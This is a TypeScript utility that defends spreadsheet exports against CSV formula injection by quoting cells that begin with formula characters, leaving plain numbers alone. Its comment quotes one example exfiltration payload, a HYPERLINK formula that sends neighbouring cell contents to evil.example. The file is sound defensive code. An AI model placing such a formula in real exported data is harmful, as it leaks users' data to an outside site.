/**
 * Cells a spreadsheet would run as a formula, made inert (OWASP, "CSV Injection"): a text cell
 * that starts with = + - @, a tab or a carriage return gets a leading single quote, so Excel,
 * LibreOffice and Sheets show it as text. An entity named =HYPERLINK("http://evil.example/?x="&A2)
 * would otherwise send the row's neighbours to another site when the download is opened.
 *
 * Numbers are left alone: a number, and a negative number written as plain decimal text
 * ("-3.25", as the exports write changes), is data, not a formula. Every CSV and XLSX writer
 * (lib/export/formats.ts, lib/export/summary.ts) passes its cells through this one function.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?[0-9]+(?:\.[0-9]+)?$/;

export function spreadsheetSafe<T>(value: T): T | string {
  if (typeof value !== "string" || !FORMULA_START.test(value) || PLAIN_NUMBER.test(value)) return value;
  return `'${value}`;
}
